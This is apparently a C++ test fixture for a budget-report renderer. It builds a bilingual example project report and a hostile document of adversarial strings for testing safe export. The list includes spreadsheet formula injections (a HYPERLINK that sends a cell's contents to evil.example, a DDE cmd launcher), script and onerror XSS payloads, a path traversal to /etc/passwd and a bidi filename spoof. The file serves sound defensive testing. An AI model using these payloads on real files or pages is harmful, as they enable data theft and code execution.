#include "tests/reporting/render/examples.h"

#include <algorithm>
#include <cstdint>
#include <limits>
#include <utility>

#include "absl/strings/str_cat.h"
#include "base/check.h"
#include "base/dates.h"
#include "base/money.h"

namespace cofi::reporting {
namespace {

using v1::Cell;
using v1::Chart;
using v1::Column;
using v1::Document;
using v1::Row;
using v1::Table;

Cell Nothing() { return {}; }

Cell Said(const std::string& text, const std::string& resource = "") {
  Cell cell;
  cell.set_text(text);
  cell.set_resource(resource);
  return cell;
}

Cell Minor(int64_t minor, const std::string& currency = "EUR", const std::string& ref = "") {
  Cell cell;
  *cell.mutable_amount() = MoneyFromMinor(minor, currency);
  cell.set_ref(ref);
  return cell;
}

Date On(const std::string& iso) {
  const auto date = ParseDate(iso);
  COFI_CHECK(date.ok(), iso);
  return *date;
}

Cell OnDate(const std::string& iso) {
  Cell cell;
  *cell.mutable_date() = On(iso);
  return cell;
}

Cell Share(int32_t basis_points) {
  Cell cell;
  cell.set_basis_points(basis_points);
  return cell;
}

Cell Count(int64_t count) {
  Cell cell;
  cell.set_count(count);
  return cell;
}

Column* AddColumn(const std::string& id, const std::string& label, Column::Kind kind,
                  Table* table) {
  Column* const column = table->add_columns();
  column->set_id(id);
  column->set_label(label);
  column->set_kind(kind);
  return column;
}

Row* AddRow(Row::Role role, std::vector<Cell> cells, Table* table) {
  Row* const row = table->add_rows();
  row->set_role(role);
  for (Cell& cell : cells) *row->add_cells() = std::move(cell);
  return row;
}

Table* AddTable(const std::string& id, const std::string& title, Document* document) {
  Table* const table = document->add_blocks()->mutable_table();
  table->set_id(id);
  table->set_title(title);
  return table;
}

void AddParagraph(const std::vector<std::string>& parts, bool warning, Document* document) {
  v1::Paragraph* const paragraph = document->add_blocks()->mutable_paragraph();
  for (const std::string& part : parts) paragraph->add_parts(part);
  paragraph->set_warning(warning);
}

void AddFigure(const std::string& id, const std::string& label, Cell value,
               const std::string& sentence, v1::Figures* figures) {
  v1::Figures::Figure* const figure = figures->add_figures();
  figure->set_id(id);
  figure->set_label(label);
  *figure->mutable_value() = std::move(value);
  figure->set_sentence(sentence);
}

void AddMark(const std::string& label, Chart::Style style, int64_t minor, Chart::Track* track) {
  Chart::Mark* const mark = track->add_marks();
  mark->set_label(label);
  mark->set_style(style);
  *mark->mutable_amount() = MoneyFromMinor(minor, "EUR");
}

v1::Events::Event* AddEvent(const std::string& uid, const std::string& iso,
                            const std::string& title, v1::Events* events) {
  v1::Events::Event* const event = events->add_events();
  event->set_uid(uid);
  *event->mutable_date() = On(iso);
  event->set_title(title);
  return event;
}

// A line of the budget: what it is called, its account, what was planned and spent of it in cents,
// which share that is, when it was last spent from, and how often.
struct Line {
  Text label;
  const char* account;
  int64_t planned_minor;
  int64_t spent_minor;
  int32_t used;
  const char* last_date;
  int64_t expenses;
};

void AddLine(const Line& line, Language language, Table* table) {
  constexpr int32_t kAll = 10'000;
  Row* const row = AddRow(
      Row::ROLE_DETAIL,
      {Said(line.label.In(language), absl::StrCat("projects/p/budgets/v1/lines/", line.account)),
       Said(line.account),
       Minor(line.planned_minor, "EUR", absl::StrCat("p/planned,line=", line.account)),
       Minor(line.spent_minor, "EUR", absl::StrCat("p/spent,line=", line.account)),
       Share(line.used), Share(kAll - line.used),
       line.last_date[0] == '\0' ? Nothing() : OnDate(line.last_date), Count(line.expenses),
       Said(absl::StrCat("projects/p/budgets/v1/lines/", line.account))},
      table);
  row->set_depth(1);
  row->set_warning(line.spent_minor > line.planned_minor);
}

void AddSum(Row::Role role, const Text& label, int64_t planned_minor, int64_t spent_minor,
            int64_t expenses, Language language, Table* table) {
  AddRow(role,
         {Said(label.In(language)), Nothing(), Minor(planned_minor), Minor(spent_minor), Nothing(),
          Nothing(), Nothing(), Count(expenses)},
         table);
}

void AddLines(Language language, Document* document) {
  Table* const table = AddTable("lines", Text{"Lines", "Lignes"}.In(language), document);
  const auto add = [&](const char* id, const Text& label, Column::Kind kind) {
    return AddColumn(id, label.In(language), kind, table);
  };
  add("display_name", {"Line", "Ligne"}, Column::KIND_TEXT);
  add("account", {"Account", "Compte"}, Column::KIND_NAME);
  add("planned", {"Planned", "Prévu"}, Column::KIND_AMOUNT);
  add("spent", {"Spent", "Réalisé"}, Column::KIND_AMOUNT);
  Column* const used = add("used_basis_points", {"Used", "Consommé"}, Column::KIND_SHARE);
  used->set_bar(true);
  used->set_whole_percents(true);
  used->set_priority(1);
  add("left_basis_points", {"Left", "Reste"}, Column::KIND_SHARE)->set_priority(2);
  add("last_date", {"Last expense", "Dernière dépense"}, Column::KIND_DATE)->set_priority(3);
  add("expense_count", {"Expenses", "Dépenses"}, Column::KIND_COUNT)->set_priority(4);
  add("name", {"Name", "Nom"}, Column::KIND_NAME)->set_files_only(true);

  AddRow(Row::ROLE_GROUP, {Said(Text{"60 Purchases", "60 Achats"}.In(language))}, table);
  AddLine({{"Supplies", "Fournitures"}, "606", 100'000, 76'660, 7'666, "2018-03-01", 3}, language,
          table);
  AddLine(
      {{"Studies; surveys", "Études ; enquêtes"}, "604", 250'050, 260'050, 10'399, "2018-02-28", 2},
      language, table);
  AddSum(Row::ROLE_SUBTOTAL, {"60 Purchases, total", "60 Achats, total"}, 350'050, 336'710, 5,
         language, table);
  AddRow(Row::ROLE_GROUP, {Said(Text{"64 Staff", "64 Personnel"}.In(language))}, table);
  AddLine({{"Salaries", "Salaires"}, "641", 13'919'710, 4'000'000, 2'873, "2018-03-20", 1'204},
          language, table);
  AddLine({{"Refunds", "Remboursements"}, "649", 0, -12'345, 0, "", 1}, language, table);
  AddSum(Row::ROLE_SUBTOTAL, {"64 Staff, total", "64 Personnel, total"}, 13'919'710, 3'987'655,
         1'205, language, table);
  AddSum(Row::ROLE_TOTAL, {"Total", "Total"}, 14'269'760, 4'324'365, 1'210, language, table);
}

void AddGrants(Language language, Document* document) {
  Table* const table = AddTable("grants", Text{"Grants", "Financements"}.In(language), document);
  AddColumn("funder", Text{"Funder", "Financeur"}.In(language), Column::KIND_TEXT, table);
  AddColumn("awarded", Text{"Awarded", "Accordé"}.In(language), Column::KIND_AMOUNT, table);
  AddColumn("award_date", Text{"On", "Le"}.In(language), Column::KIND_DATE, table);
  AddRow(Row::ROLE_DETAIL,
         {Said("Fondation de France", "funders/fdf"), Minor(4'000'000), OnDate("2018-01-15")},
         table);
  AddRow(Row::ROLE_DETAIL,
         {Said("Loterie romande", "funders/lr"), Minor(1'250'000, "CHF"), OnDate("2018-02-02")},
         table);
}

void AddChart(Language language, Document* document) {
  Chart* const chart = document->add_blocks()->mutable_chart();
  chart->set_id("funding");
  chart->set_kind(Chart::KIND_STACK);
  chart->set_title(Text{"Who pays", "Qui paie"}.In(language));
  chart->set_caption(
      Text{"40,000.00 of 142,697.60 are secured.", "40 000,00 sur 142 697,60 sont acquis."}.In(
          language));
  *chart->mutable_today() = On("2018-03-23");
  Chart::Track* const track = chart->add_tracks();
  track->set_label(Text{"Funding", "Financement"}.In(language));
  *track->mutable_whole() = MoneyFromMinor(14'269'760, "EUR");
  AddMark("Fondation de France", Chart::STYLE_SURE, 4'000'000, track);
  AddMark(Text{"Town", "Ville"}.In(language), Chart::STYLE_OPEN, 2'400'000, track);
  AddMark(Text{"Missing", "Manque"}.In(language), Chart::STYLE_MISSING, 7'869'760, track);
}

void AddEvents(Language language, Document* document) {
  v1::Events* const events = document->add_blocks()->mutable_events();
  v1::Events::Event* const report =
      AddEvent("projects/p/applications/fdf/obligations/o1#due", "2018-06-30",
               Text{"Interim report to Fondation de France",
                    "Rapport intermédiaire à la Fondation de France"}
                   .In(language),
               events);
  report->set_description(
      Text{"Two pages and the accounts.", "Deux pages et les comptes."}.In(language));
  report->set_category(Text{"report", "rapport"}.In(language));
  report->set_resource("projects/p/applications/fdf/obligations/o1");
  report->add_reminder_days(14);
  report->add_reminder_days(3);
  AddEvent("projects/p#end", "2018-12-31", Text{"End of the project", "Fin du projet"}.In(language),
           events)
      ->set_resource("projects/p");
}

}  // namespace

Document ExampleDocument(Language language) {
  Document document;
  document.set_report("status");
  document.set_language_code(std::string(TagOf(language)));
  document.set_title(Text{"Precariousness and youth", "Précarité et jeunesse"}.In(language));
  document.add_facts(Text{"running", "en cours"}.In(language));
  document.add_facts(Text{"as of 2018-03-23", "au 23/03/2018"}.In(language));
  document.set_project("projects/p");
  document.set_time_zone("Europe/Paris");
  *document.mutable_as_of_date() = On("2018-03-23");
  v1::Figures* const figures = document.add_blocks()->mutable_figures();
  figures->set_id("funding");
  AddFigure("secured", Text{"secured", "acquis"}.In(language), Minor(4'000'000),
            Text{"secured 40,000.00", "acquis 40\u202F000,00"}.In(language), figures);
  AddFigure("secured_basis_points", Text{"share", "part"}.In(language), Share(2'803),
            Text{"share 28.03%", "part 28,03\u202F%"}.In(language), figures);
  AddLines(language, &document);
  AddParagraph({Text{"Paid for by: own funds", "Financé par : autofinancement"}.In(language),
                Text{"Town of Rennes", "Ville de Rennes"}.In(language)},
               false, &document);
  AddChart(language, &document);
  AddGrants(language, &document);
  AddParagraph({Text{"2 overdue: Studies", "2 en retard : Études"}.In(language)}, true, &document);
  AddEvents(language, &document);
  return document;
}

const std::vector<std::string>& HostileTexts() {
  constexpr size_t kMoreThanACellHolds = 40'000;
  static const auto* const texts = new std::vector<std::string>{
      "=1+1",
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
      "=cmd|'/C calc'!A0",
      "{=1+1}",
      "+33 1 42 00 00 00",
      "-2+3",
      "@SUM(1,1)",
      "\t=1+1",
      "\r=1+1",
      "  =1+1",
      "'=1+1",
      "<script>alert(1)</script>",
      "</td></table><img src=x onerror=alert(1)>",
      "<!-- --> <![CDATA[ ]]> &amp; &#x3c; &lt;b&gt;",
      "javascript:alert(1)",
      "\"quoted\", \"twice\"\"\"",
      "one;two,three|four",
      "first\r\nsecond\nthird\rfourth",
      "fdp\u202Etxt.exe",
      "\u2066isolated\u2069 \u200E\u200F",
      "zero\u200Bwidth\uFEFFno\u00ADbreak\u2060",
      "line\u2028paragraph\u2029end",
      std::string("nul\0in the middle", 17),
      "bell\a escape\x1b[31m delete\x7f backspace\b",
      "\u0085\u009b31m",
      "noncharacters \uFFFE\uFFFF",
      "broken \xff\xfe\xc3( \xed\xa0\x80 end",
      "_x0041_ _x000D_",
      "e\u0301 \u00E9 \U0001F469\u200D\U0001F52C \U0001F1EB\U0001F1F7",
      "&D &P &G &[Picture] &\"Arial\" &12",
      "../../etc/passwd",
      "C:\\windows\\system32\\con.txt",
      "BEGIN:VCALENDAR\r\nEND:VEVENT",
      " ",
      std::string(kMoreThanACellHolds, 'x'),
      [] {
        std::string faces;
        for (size_t i = 0; i < kMoreThanACellHolds / 2; ++i) faces += "\U0001F600";
        return faces;
      }(),
  };
  return *texts;
}

Document HostileDocument() {
  const std::vector<std::string>& texts = HostileTexts();
  std::string all;
  for (const std::string& text : texts) absl::StrAppend(&all, text, " ");
  Document document;
  document.set_report("../status\"");
  document.set_language_code("en");
  document.set_title(absl::StrCat("=R&D &G <b>\u202Etitle</b>\r\n", all));
  document.mutable_facts()->Add(texts.begin(), texts.end());
  document.set_project("projects/p");
  *document.mutable_as_of_date() = On("2018-03-23");

  Table* const table = AddTable("texts", "[a]:b*c?d/e\\f'", &document);
  AddColumn("text", "=1+1 <b>", Column::KIND_TEXT, table);
  AddColumn("name", "\"; \r\n\u202E", Column::KIND_NAME, table);
  AddColumn("note", all, Column::KIND_TEXT, table)->set_files_only(true);
  for (const std::string& text : texts) {
    AddRow(Row::ROLE_DETAIL, {Said(text, text), Said(text, text), Said(text)}, table);
  }

  Table* const values = AddTable("values", "'''", &document);
  AddColumn("label", "", Column::KIND_TEXT, values);
  AddColumn("amount", "Amount", Column::KIND_AMOUNT, values);
  AddColumn("date", "Date", Column::KIND_DATE, values);
  AddColumn("part_basis_points", "Share", Column::KIND_SHARE, values);
  AddColumn("count", "Count", Column::KIND_COUNT, values);
  AddRow(Row::ROLE_GROUP, {}, values);
  AddRow(Row::ROLE_DETAIL, {Said("only a label")}, values);
  AddRow(Row::ROLE_DETAIL,
         {Said("largest"), Minor(kMinorMax), OnDate("9999-12-31"),
          Share(std::numeric_limits<int32_t>::max()), Count(kMinorMax)},
         values)
      ->set_depth(std::numeric_limits<int32_t>::max());
  AddRow(Row::ROLE_DETAIL,
         {Said("smallest"), Minor(-kMinorMax), OnDate("1900-01-01"),
          Share(std::numeric_limits<int32_t>::min()), Count(-kMinorMax)},
         values)
      ->set_depth(-1);
  AddRow(Row::ROLE_DETAIL, {Said("cents"), Minor(-5), OnDate("1900-02-28"), Share(-1), Count(0)},
         values);
  AddRow(Row::ROLE_DETAIL,
         {Count(7), Said("=1+1"), Said("-2+3"), Said("@SUM(1,1)"), Minor(100, "=1+1\"")}, values);
  AddRow(Row::ROLE_TOTAL, {Said("=total"), Minor(-6), Nothing(), Nothing(), Count(1)}, values)
      ->set_warning(true);

  // Names that a workbook keeps for itself, or that are one but for case and what is cut.
  for (const char* const title :
       {"History", "SAME", "same", "A title that is longer than a sheet's may be: one",
        "A title that is longer than a sheet's may be: two"}) {
    Table* const more = AddTable(absl::StrCat("more_", document.blocks_size()), title, &document);
    AddColumn("text", "Text", Column::KIND_TEXT, more);
  }

  v1::Figures* const figures = document.add_blocks()->mutable_figures();
  figures->set_id("figures");
  for (const std::string& text : texts) AddFigure(text, text, Said(text), text, figures);
  AddParagraph(texts, true, &document);
  Chart* const chart = document.add_blocks()->mutable_chart();
  chart->set_id("chart");
  chart->set_kind(Chart::KIND_STACK);
  chart->set_title("<script>title</script>");
  chart->set_caption("\"><script>caption</script>");
  Chart::Track* const track = chart->add_tracks();
  track->set_label("</text></svg><script>track</script>");
  *track->mutable_whole() = MoneyFromMinor(1'000, "EUR");
  AddMark("\" onload=\"alert(1)\u202E", Chart::STYLE_SURE, 500, track);
  v1::Events* const events = document.add_blocks()->mutable_events();
  for (const std::string& text : texts) {
    v1::Events::Event* const event = AddEvent(text, "2018-06-30", text, events);
    event->set_description(text);
    event->set_category(text);
    event->set_resource(text);
  }
  return document;
}

std::vector<Document> InParts(const Document& document, int parts) {
  const auto first = std::find_if(document.blocks().begin(), document.blocks().end(),
                                  [](const v1::Block& block) { return block.has_table(); });
  COFI_CHECK(first != document.blocks().end() && parts > 0, document.title());
  const Table& table = first->table();
  std::vector<Document> all(parts);
  all.front() = document;
  all.front().clear_blocks();
  for (auto block = document.blocks().begin(); block != first; ++block) {
    *all.front().add_blocks() = *block;
  }
  for (int part = 0; part < parts; ++part) {
    Table* const piece = all[part].add_blocks()->mutable_table();
    piece->set_id(table.id());
    piece->set_continued(part > 0);
    if (part == 0) {
      piece->set_title(table.title());
      *piece->mutable_columns() = table.columns();
    }
    for (int row = table.rows_size() * part / parts; row < table.rows_size() * (part + 1) / parts;
         ++row) {
      *piece->add_rows() = table.rows(row);
    }
  }
  for (auto block = first + 1; block != document.blocks().end(); ++block) {
    *all.back().add_blocks() = *block;
  }
  return all;
}

}  // namespace cofi::reporting
